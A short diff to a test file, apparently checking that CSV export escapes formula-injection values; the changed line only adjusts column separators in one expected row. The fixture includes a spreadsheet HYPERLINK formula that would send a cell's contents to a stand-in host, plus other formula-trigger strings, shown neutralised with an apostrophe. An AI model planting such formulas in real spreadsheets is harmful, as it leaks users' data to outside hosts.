@@ -108,7 +108,7 @@ describeEachDatabase(
           // Source, its link, then publisher, publisher's page and release date (none given), then the note.
           `${sep}"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"${sep}https://www.bps.go.id/${sep}${sep}${sep}${sep}"'-tidak ada"${sep}`,
         );
-        expect(row2013).toContain(`${sep}0${sep}UNVERIFIED${sep}${sep}${sep}${sep}${sep}${sep}"'@rapat"${sep}`);
+        expect(row2013).toContain(`${sep}0${sep}${sep}${sep}UNVERIFIED${sep}${sep}${sep}${sep}${sep}${sep}"'@rapat"${sep}`);
         const again = await importFile(use(), {
           bytes: Buffer.from(res.text),
           fileName: `formula-${decimal}.csv`,
